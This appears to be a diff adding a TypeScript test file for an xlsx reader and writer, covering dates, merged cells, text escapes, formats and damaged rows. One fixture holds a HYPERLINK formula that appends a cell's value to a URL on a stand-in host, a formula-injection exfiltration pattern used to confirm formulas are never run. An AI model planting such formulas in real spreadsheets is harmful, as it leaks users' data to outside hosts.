@@ -1,0 +1,125 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { bookOf } from './made-by-excel.ts';
+import { cellsOf, inline, reading, xlsxOf } from './made.ts';
+
+test('[I2] an xlsx as a spreadsheet writes it is read as its first visible sheet, row by row', async (t) => {
+  const { readFile } = reading(t);
+  const file = bookOf('xlsx', [
+    { name: 'Old', rows: [['Hidden']], hidden: 1 },
+    { name: 'Older', rows: [['Hidden well']], hidden: 2 },
+    {
+      name: 'Students',
+      rows: [['Name', 'WhatsappNumber', null, 'Date'], [], ['आशा O’Brien', 9_876_543_210, null, 46_000.5], [true, null, '=1+1']],
+      formats: { D3: 'dd-mm-yyyy', B3: '000000000000' },
+    },
+    { name: 'Next', rows: [['Not this']] },
+  ]);
+  const read = await readFile('xlsx', file);
+  assert.deepEqual(read.outcome, { ok: true, about: { kind: 'xlsx', from1904: false, encoding: null } });
+  assert.deepEqual(cellsOf(read), {
+    1: ['Name', 'WhatsappNumber', null, 'Date'],
+    3: ['आशा O’Brien', { number: 9_876_543_210, shown: 12 }, null, { number: 46_000.5, shown: 'date' }],
+    4: [true, null, '=1+1'],
+  });
+});
+
+test('[I2] days counted from 1904 are told as such, and a date that is written out counts in the same way', async (t) => {
+  const { readFile } = reading(t);
+  assert.equal((await readFile('xlsx', bookOf('xlsx', [{ name: 'A', rows: [['x']] }], true))).about?.from1904, true);
+  assert.equal((await readFile('xlsx', bookOf('xlsx', [{ name: 'A', rows: [['x']] }]))).about?.from1904, false);
+  const rows = '<row r="1"><c r="A1" t="d"><v>2026-11-24T12:00:00</v></c><c r="B1" t="d"><v>soon</v></c></row>';
+  const [in1900, in1904] = [await readFile('xlsx', xlsxOf({ rows })), await readFile('xlsx', xlsxOf({ rows, from1904: true }))];
+  assert.deepEqual(cellsOf(in1900)[1], [{ number: 46_350.5, shown: 'date' }, { error: '#VALUE!' }]);
+  assert.deepEqual(cellsOf(in1904)[1]![0], { number: 46_350.5 - 1_462, shown: 'date' });
+});
+
+test('[I2] a formula is the value that was stored with it, and never run', async (t) => {
+  const { readFile } = reading(t);
+  const read = await readFile(
+    'xlsx',
+    xlsxOf({
+      rows:
+        '<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://elsewhere.example/?"&amp;A2,"Asha")</f><v>Asha</v></c><c r="B1"><f>NOW()</f><v>46000</v></c>' +
+        '<c r="C1"><f>1+1</f></c><c r="D1" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>',
+    }),
+  );
+  assert.deepEqual(cellsOf(read)[1], ['Asha', 46_000, { error: '#FORMULA' }, { error: '#DIV/0!' }]);
+});
+
+test('[I2] of merged cells only the first has the value, also where a file keeps others under it', async (t) => {
+  const { readFile } = reading(t);
+  const rows =
+    '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c><c r="C1"><v>3</v></c></row>' +
+    '<row r="2"><c r="A2"><v>4</v></c><c r="B2"><v>5</v></c><c r="C2"><v>6</v></c></row><row r="3"><c r="A3"><v>7</v></c><c r="B3"><v>8</v></c></row>';
+  const merged = '<mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="C2:C9"/><mergeCell ref="B3:XFD1048576"/></mergeCells>';
+  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows, behind: merged }))), { 1: [1, null, 3], 2: [null, null, 6], 3: [7, 8] });
+  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows })))[2], [4, 5, 6], 'control: without the ranges all are there');
+  const excel = bookOf('xlsx', [
+    {
+      name: 'A',
+      rows: [
+        ['a', 'b'],
+        ['c', 'd'],
+      ],
+      merges: ['A1:A2'],
+    },
+  ]);
+  assert.deepEqual(cellsOf(await readFile('xlsx', excel)), { 1: ['a', 'b'], 2: [null, 'd'] });
+});
+
+test('[I2] texts are put together from their formatted pieces, and escapes stand for what XML cannot hold', async (t) => {
+  const { readFile } = reading(t);
+  const texts = [
+    '<r><t>Asha </t></r><r><rPr><b/></rPr><t xml:space="preserve">Rao</t></r><rPh sb="0" eb="1"><t>spoken</t></rPh>',
+    '<t>a_x0000_b_x000D_</t>',
+    '<t>&lt;b&gt; &amp; &#233;</t>',
+    '<t><![CDATA[<i>]]></t>',
+    '<t>   </t>',
+  ];
+  const rows = `<row r="1">${['A', 'B', 'C', 'D', 'E'].map((letter, index) => `<c r="${letter}1" t="s"><v>${index}</v></c>`).join('')}</row>`;
+  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows, texts })))[1], ['Asha Rao', 'a\0b\r', '<b> & é', '<i>']);
+});
+
+test('[I2] formats tell dates and zeros in front, and nothing else', async (t) => {
+  const { readFile } = reading(t);
+  const formats = ['0000', 'dd/mm/yyyy', '[Red]0.00', '[h]:mm', '&quot;day&quot; 0', '0000;[Red]-0000', 'General', '#,##0', '\\d0', '@'];
+  const rows = `<row r="1">${formats.map((_, index) => `<c s="${index + 1}"><v>7</v></c>`).join('')}</row>`;
+  const [zeros, date, duration] = [
+    { number: 7, shown: 4 },
+    { number: 7, shown: 'date' },
+    { number: 7, shown: 'date' },
+  ];
+  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows, formats })))[1], [zeros, date, 7, duration, 7, zeros, 7, 7, 7, 7]);
+});
+
+test('[I2] rows and cells without a place follow each other; those out of order are damage', async (t) => {
+  const { readFile, refusal } = reading(t);
+  const unplaced = '<row><c><v>1</v></c><c r="C1"><v>3</v></c></row><row r="5"><c><v>5</v></c></row>';
+  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows: unplaced }))), { 1: [1, null, 3], 5: [5] });
+  for (const rows of [
+    '<row r="2"><c><v>1</v></c></row><row r="2"><c><v>1</v></c></row>',
+    '<row r="2"><c><v>1</v></c></row><row r="1"><c><v>1</v></c></row>',
+    '<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>1</v></c></row>',
+    '<row r="1"><c r="A2"><v>1</v></c></row>',
+    '<row r="1"><c r="A1" t="s"><v>7</v></c></row>',
+    '<row r="0"><c><v>1</v></c></row>',
+    '<row r="1048577"><c><v>1</v></c></row>',
+  ])
+    assert.equal(await refusal('xlsx', xlsxOf({ rows })), 'sheet_damaged', rows);
+});
+
+test('[I2] what is written is read again as it was, and no text becomes a formula', async (t) => {
+  const { write, readFile } = reading(t);
+  const rows = [
+    ['Name', '=HYPERLINK("http://elsewhere.example")', '+91 98', null, "@it's"],
+    [null, 1.5, true, 'a\0b', { number: 7, shown: 4 }],
+  ] as const;
+  const file = await write([
+    { name: 'Refused', rows },
+    { name: 'Help', rows: [['x']] },
+  ]);
+  const read = await readFile('xlsx', file!);
+  assert.deepEqual(cellsOf(read), { 1: rows[0], 2: rows[1] });
+  assert.deepEqual(cellsOf(await readFile('xlsx', xlsxOf({ rows: `<row>${inline('A1', 'x')}</row>` }))), { 1: ['x'] });
+});
